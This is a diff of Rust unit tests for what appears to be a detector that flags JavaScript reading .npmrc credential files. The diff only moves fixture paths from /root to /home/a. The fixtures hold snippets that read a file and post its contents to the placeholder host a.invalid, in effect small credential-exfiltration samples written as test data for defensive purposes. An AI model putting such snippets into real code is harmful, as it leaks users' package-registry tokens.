@@ -82,8 +82,8 @@ fn reads(code: &str, name: &str) -> bool {
 fn what_a_caller_gives_counts_beside_the_default_of_a_parameter() {
     let code = "const fs = require('fs');
         function h(n = '') { fetch('https://a.invalid', { body: fs.readFileSync(n) }) }";
-    assert!(reads(&format!("{code} h('/root/.npmrc')"), ".npmrc"));
-    assert!(!reads(&format!("{code} h('/root/notes')"), ".npmrc"));
+    assert!(reads(&format!("{code} h('/home/a/.npmrc')"), ".npmrc"));
+    assert!(!reads(&format!("{code} h('/home/a/notes')"), ".npmrc"));
     assert!(!reads(code, ".npmrc"));
 }
 
@@ -98,9 +98,9 @@ fn an_element_that_a_counter_leads_to_is_one_of_the_list() {
     ] {
         let begin = "const fs = require('fs'); const send = (b) => fetch('https://a.invalid', { body: b });";
         let code = |list: &str| format!("{begin} const f = {list}; {code}");
-        let list = "['/root/notes', '/root/.npmrc', '/root/other']";
+        let list = "['/home/a/notes', '/home/a/.npmrc', '/home/a/other']";
         assert!(reads(&code(list), ".npmrc"), "{}", code(list));
-        let list = "['/root/notes', '/root/other']";
+        let list = "['/home/a/notes', '/home/a/other']";
         assert!(!reads(&code(list), ".npmrc"), "{}", code(list));
     }
 }
